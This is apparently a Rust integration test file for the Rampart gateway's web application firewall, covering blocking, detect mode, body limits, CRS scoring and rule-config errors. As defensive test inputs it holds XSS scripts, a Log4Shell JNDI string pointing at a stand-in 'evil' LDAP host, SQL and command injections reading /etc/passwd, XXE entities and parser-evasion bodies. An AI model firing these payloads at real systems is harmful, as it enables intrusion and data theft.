//! The WAF phase on a real gateway: the built-in baseline, detection mode, bodies and
//! their limit, the stock CRS (when ../shared has it), and rule errors in the config.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use rampart_store::LocalState;

use crate::support::*;

const ROUTES: &str = r#"
[[routes]]
name = "guarded"
match = { path_prefix = "/app" }
upstream = "app"
waf = { body_limit = 64 }
[[routes]]
name = "watching"
match = { path_prefix = "/watch" }
upstream = "app"
waf = { mode = "detect" }
[[routes]]
name = "streaming"
match = { path_prefix = "/upload" }
upstream = "app"
waf = { body_limit = 64, on_large_body = "pass" }
"#;

async fn post(addr: std::net::SocketAddr, path: &str, body: &str) -> u16 {
    let form = [("content-type", "application/x-www-form-urlencoded")];
    send(addr, "POST", path, &form, body).await.status
}

#[tokio::test]
async fn the_baseline_blocks_attacks_detect_mode_logs_and_bodies_are_bounded() {
    let up = mirror().await;
    let setup = gateway(store().await, Arc::new(LocalState::default()), up, ROUTES).await;
    let blocked = get(
        setup.addr,
        "/app/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        &[],
    )
    .await;
    assert_eq!(blocked.status, 403);
    assert_eq!(blocked.body["type"], "urn:rampart:problem:waf-blocked");
    assert!(blocked.body["request_id"].is_string());
    assert_eq!(
        get(setup.addr, "/app/search?q=blue+shirts", &[])
            .await
            .status,
        200
    );
    // Headers are inspected too.
    let log4j = get(
        setup.addr,
        "/app/",
        &[("x-api-version", "${jndi:ldap://evil/a}")],
    )
    .await;
    assert_eq!(log4j.status, 403);
    // Detection mode lets the request through and counts the match.
    assert_eq!(
        get(setup.addr, "/watch/?q=%3Cscript%3E", &[]).await.status,
        200
    );
    // Bodies: an attack in a form body, a body over the limit, one passed uninspected.
    assert_eq!(
        post(
            setup.addr,
            "/app/login",
            "user=a&pass=x%27+or+%271%27%3D%271"
        )
        .await,
        403
    );
    assert_eq!(post(setup.addr, "/app/comment", "text=hello").await, 200);
    let big = format!("text={}", "a".repeat(200));
    assert_eq!(post(setup.addr, "/app/comment", &big).await, 413);
    assert_eq!(post(setup.addr, "/upload/file", &big).await, 200);

    let metrics = setup.metrics.encode_prometheus();
    for line in [
        "rampart_waf_rule_matches_total{route=\"guarded\",rule=\"100002\"} 1",
        "rampart_waf_rule_matches_total{route=\"watching\",rule=\"100002\"} 1",
        "rampart_waf_rule_matches_total{route=\"guarded\",rule=\"100006\"} 1",
        "rampart_guard_denials_total{route=\"guarded\",reason=\"waf_blocked\"} 3",
        "rampart_guard_denials_total{route=\"guarded\",reason=\"waf_body_too_large\"} 1",
    ] {
        assert!(metrics.contains(line), "{line} missing:\n{metrics}");
    }
}

fn crs_dir() -> Option<PathBuf> {
    let from_env = std::env::var_os("RAMPART_SHARED_DIR").map(PathBuf::from);
    let beside = Path::new(env!("CARGO_MANIFEST_DIR"))
        .ancestors()
        .map(|a| a.join("shared"))
        .find(|d| d.join("crs/rules").is_dir());
    let dir = from_env.or(beside)?.join("crs");
    dir.join("rules").is_dir().then_some(dir)
}

#[tokio::test]
async fn the_stock_crs_blocks_by_anomaly_score() {
    let Some(crs) = crs_dir() else {
        assert!(
            std::env::var_os("RAMPART_REQUIRE_SHARED").is_none(),
            "the CRS is required here but not found"
        );
        eprintln!("SKIPPED (shared data): the CRS was not found; set RAMPART_SHARED_DIR");
        return;
    };
    // The CRS directory itself: Rampart reads its setup and rule files.
    let up = mirror().await;
    let routes = format!(
        "[[routes]]\nname = \"crs\"\nupstream = \"app\"\nwaf = {{ crs = \"{}\" }}\n",
        crs.display()
    );
    let setup = gateway(store().await, Arc::new(LocalState::default()), up, &routes).await;
    let ua = [("user-agent", "Mozilla/5.0"), ("accept", "text/html")];
    assert_eq!(
        get(setup.addr, "/products?id=42&sort=price", &ua)
            .await
            .status,
        200
    );
    let xss = get(
        setup.addr,
        "/products?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        &ua,
    )
    .await;
    assert_eq!(xss.status, 403);
    let rce = get(setup.addr, "/products?file=;cat%20/etc/passwd", &ua).await;
    assert_eq!(rce.status, 403);
    let metrics = setup.metrics.encode_prometheus();
    assert!(
        metrics.contains("rampart_waf_rule_matches_total{route=\"crs\",rule=\"949110\"} 2"),
        "{metrics}"
    );
}

#[test]
fn a_crs_setting_must_name_a_crs_directory() {
    let dir = temp_dir("guard-crs-missing");
    let source = "listeners = [{ name = \"public\", address = \"127.0.0.1:0\" }]\n\
                  [upstreams.app]\ntargets = [\"http://127.0.0.1:9\"]\n\
                  [[routes]]\nupstream = \"app\"\nwaf = { crs = \"nowhere\" }\n\
                  [[routes]]\nupstream = \"app\"\nwaf = { crs = \"nowhere\", rules = \"x.conf\" }\n";
    let errors = rampart_config::compile_str(source, &dir)
        .expect_err("refused")
        .errors;
    let paths: Vec<&str> = errors.iter().map(|e| e.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "routes[0].waf.crs",
            "routes[1].waf.crs",
            "routes[1].waf.crs"
        ],
        "{errors:?}"
    );
    assert!(
        errors[0].message.contains("not an OWASP CRS directory"),
        "{errors:?}"
    );
}

#[test]
fn a_rule_file_that_does_not_parse_is_a_config_error_naming_file_and_line() {
    let dir = temp_dir("guard-badrules");
    std::fs::write(
        dir.join("rules.conf"),
        "SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\nSecRule ARGS \"@nope\" \"id:2\"\n",
    )
    .expect("write");
    let source = "listeners = [{ name = \"public\", address = \"127.0.0.1:0\" }]\n\
                  [upstreams.app]\ntargets = [\"http://127.0.0.1:9\"]\n\
                  [[routes]]\nupstream = \"app\"\nwaf = { rules = \"rules.conf\", paranoia = 7 }\n";
    let errors = rampart_config::compile_str(source, &dir)
        .expect_err("refused")
        .to_string();
    assert!(
        errors.contains("rules.conf:2: SecRule: unknown operator @nope"),
        "{errors}"
    );
    assert!(errors.contains("paranoia"), "{errors}");
}

/// With `SecResponseBodyAccess On`, text response bodies are inspected (data leakage
/// rules) and a match replaces the response with a 403.
#[tokio::test]
async fn response_bodies_are_inspected_when_the_rules_ask() {
    let dir = temp_dir("guard-resp");
    let rules = dir.join("leak.conf");
    std::fs::write(
        &rules,
        "SecResponseBodyAccess On\n\
         SecRule RESPONSE_BODY \"@contains BEGIN PRIVATE KEY\" \"id:500001,phase:4,deny,msg:'key leak'\"\n",
    )
    .expect("write");
    let up = mirror().await;
    let routes = format!(
        "[[routes]]\nname = \"leaky\"\nupstream = \"app\"\nwaf = {{ rules = \"{}\" }}\n",
        rules.display()
    );
    let setup = gateway(store().await, Arc::new(LocalState::default()), up, &routes).await;
    // The mirror upstream answers with the request headers, so this one leaks.
    assert_eq!(
        get(setup.addr, "/", &[("x-note", "hello")]).await.status,
        200
    );
    let leaked = get(
        setup.addr,
        "/",
        &[("x-note", "-----BEGIN PRIVATE KEY-----")],
    )
    .await;
    assert_eq!(leaked.status, 403);
    assert_eq!(leaked.body["type"], "urn:rampart:problem:waf-blocked");
}

const BODY_ROUTES: &str = r#"
[[routes]]
name = "strict"
match = { path_prefix = "/strict" }
upstream = "app"
waf = {}
[[routes]]
name = "lenient"
match = { path_prefix = "/lenient" }
upstream = "app"
waf = { on_unparsed_body = "pass" }
"#;

/// Sends `body` as `content_type` and returns the answer.
async fn post_as(addr: std::net::SocketAddr, path: &str, content_type: &str, body: &str) -> Answer {
    send(addr, "POST", path, &[("content-type", content_type)], body).await
}

/// The answer is the 400 problem `slug`, with the request id and a title.
fn assert_problem(answer: &Answer, slug: &str, case: &str) {
    assert_eq!(answer.status, 400, "{case}: {:?}", answer.body);
    assert_eq!(
        answer.headers["content-type"], "application/problem+json",
        "{case}"
    );
    assert_eq!(
        answer.body["type"],
        format!("urn:rampart:problem:{slug}"),
        "{case}"
    );
    assert_eq!(answer.body["status"], 400, "{case}");
    assert!(
        answer.body["title"].as_str().is_some_and(|t| !t.is_empty()),
        "{case}"
    );
    assert_eq!(
        answer.body["request_id"].as_str(),
        answer.headers["x-request-id"].to_str().ok(),
        "{case}"
    );
}

/// The WAF inspects what the application will parse: bodies it cannot read as their type
/// are refused (or, where the route says so, passed inspected raw), more arguments than
/// it inspects are refused, and the readings applications differ on are all inspected.
#[tokio::test]
async fn bodies_the_waf_cannot_read_in_full_are_not_forwarded_uninspected() {
    let up = mirror().await;
    let setup = gateway(
        store().await,
        Arc::new(LocalState::default()),
        up,
        BODY_ROUTES,
    )
    .await;
    let addr = setup.addr;
    const JSON: &str = "application/json";
    let xss = "<script>alert(1)</script>";

    // Bodies that do not parse as their declared type: 400 waf-body-unparsed.
    let deep = format!("{}1{}", "[".repeat(65), "]".repeat(65));
    let ibm037 = "application/x-www-form-urlencoded; charset=ibm037";
    let two_boundaries = "multipart/form-data; boundary=a; boundary=b";
    let multipart_body =
        format!("--a\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{xss}\r\n--a--\r\n");
    let unparsed: [(&str, &str, &str); 6] = [
        ("truncated JSON", JSON, "{\"q\":\"x\""),
        ("JSON nested past the limit", JSON, &deep),
        (
            "JSON in UTF-16",
            "application/json; charset=utf-16",
            "{\"q\":1}",
        ),
        ("form in EBCDIC", ibm037, "q=1"),
        ("two boundaries", two_boundaries, &multipart_body),
        (
            "multipart without its closing delimiter",
            "multipart/form-data; boundary=a",
            "--a\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n",
        ),
    ];
    for (case, content_type, body) in unparsed {
        let answer = post_as(addr, "/strict/api", content_type, body).await;
        assert_problem(&answer, "waf-body-unparsed", case);
        // On a route that lets them pass, they go upstream.
        let passed = post_as(addr, "/lenient/api", content_type, body).await;
        assert_eq!(passed.status, 200, "{case} on the lenient route");
    }
    // Passed on, an unparsed body is still inspected as its raw bytes.
    let raw_attack = "{\"q\":\"<!ENTITY x SYSTEM 'file:///etc/passwd'>\"";
    assert_eq!(
        post_as(addr, "/lenient/api", JSON, raw_attack).await.status,
        403
    );

    // More arguments than the WAF inspects: 400 waf-too-many-arguments, on either route.
    let many = "a=1&".repeat(4097);
    let form = "application/x-www-form-urlencoded";
    for path in ["/strict/form", "/lenient/form"] {
        let answer = post_as(addr, path, form, &many).await;
        assert_problem(&answer, "waf-too-many-arguments", "body arguments");
        let answer = get(addr, &format!("{path}?{many}"), &[]).await;
        assert_problem(&answer, "waf-too-many-arguments", "query arguments");
    }
    let json_values = format!("[{}1]", "1,".repeat(4096));
    assert_problem(
        &post_as(addr, "/strict/api", JSON, &json_values).await,
        "waf-too-many-arguments",
        "JSON values",
    );
    assert_eq!(
        post_as(addr, "/strict/form", form, &"a=1&".repeat(4096))
            .await
            .status,
        200
    );

    // Readings applications differ on are all inspected: 403 from the rules.
    let blocked: [(&str, &str, String); 7] = [
        (
            "the first of two duplicate JSON keys",
            JSON,
            format!("{{\"q\":\"{xss}\",\"q\":\"x\"}}"),
        ),
        ("JSON after a byte order mark", JSON, format!("\u{feff}{{\"q\":\"{xss}\"}}")),
        (
            "JSON under another spelling of its type",
            "Application/JSON; charset=UTF-8",
            format!("{{\"q\":\"{xss}\"}}"),
        ),
        ("JSON as text/json", "text/json", format!("{{\"q\":\"{xss}\"}}")),
        (
            "a multipart name in capitals with spaces",
            "multipart/form-data; BOUNDARY = \"a\"",
            format!("--a\r\nContent-Disposition: form-data; NAME = \"q\"\r\n\r\n{xss}\r\n--a--\r\n"),
        ),
        (
            "a multipart part without a name",
            "multipart/form-data; boundary=a",
            format!("--a\r\nContent-Disposition: form-data\r\n\r\n{xss}\r\n--a--\r\n"),
        ),
        (
            "a multipart file named only by filename*",
            "multipart/form-data; boundary=a",
            format!("--a\r\nContent-Disposition: form-data; name*=UTF-8''q; filename*=UTF-8''x.txt\r\n\r\n{xss}\r\n--a--\r\n"),
        ),
    ];
    for (case, content_type, body) in blocked {
        let answer = post_as(addr, "/strict/api", content_type, &body).await;
        assert_eq!(answer.status, 403, "{case}: {:?}", answer.body);
        assert_eq!(
            answer.body["type"], "urn:rampart:problem:waf-blocked",
            "{case}"
        );
    }
    // A body of a type no processor reads is inspected as it is.
    let xxe = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";
    assert_eq!(
        post_as(addr, "/strict/api", "text/plain", xxe).await.status,
        403
    );
    // And ordinary bodies pass.
    for (content_type, body) in [
        (JSON, "\u{feff}{\"q\":\"blue shirts\",\"n\":[1,2,{\"k\":null}]}"),
        (
            "multipart/form-data; boundary=\"a\"",
            "--a\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nblue shirts\r\n--a\r\nContent-Disposition: form-data; name=\"f\"; filename=\"notes.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--a--\r\n",
        ),
        ("text/plain", "hello"),
    ] {
        assert_eq!(post_as(addr, "/strict/api", content_type, body).await.status, 200, "{content_type}");
    }

    let metrics = setup.metrics.encode_prometheus();
    for line in [
        "rampart_guard_denials_total{route=\"strict\",reason=\"waf_body_unparsed\"} 6",
        "rampart_guard_denials_total{route=\"strict\",reason=\"waf_too_many_arguments\"} 3",
        "rampart_guard_denials_total{route=\"lenient\",reason=\"waf_too_many_arguments\"} 2",
    ] {
        assert!(metrics.contains(line), "{line} missing:\n{metrics}");
    }
}

#[test]
fn on_unparsed_body_takes_reject_or_pass() {
    let source = "listeners = [{ name = \"public\", address = \"127.0.0.1:0\" }]\n\
                  [upstreams.app]\ntargets = [\"http://127.0.0.1:9\"]\n\
                  [[routes]]\nupstream = \"app\"\nwaf = { on_unparsed_body = \"ignore\" }\n";
    let errors = rampart_config::compile_str(source, Path::new("."))
        .expect_err("refused")
        .to_string();
    assert!(errors.contains("waf.on_unparsed_body"), "{errors}");
    assert!(
        errors.contains("expected \"reject\" or \"pass\""),
        "{errors}"
    );
    let defaults = source.replace("on_unparsed_body = \"ignore\"", "");
    let config = rampart_config::compile_str(&defaults, Path::new(".")).expect("compiles");
    assert!(
        config.routes[0]
            .waf
            .as_ref()
            .expect("waf")
            .reject_unparsed_bodies
    );
}
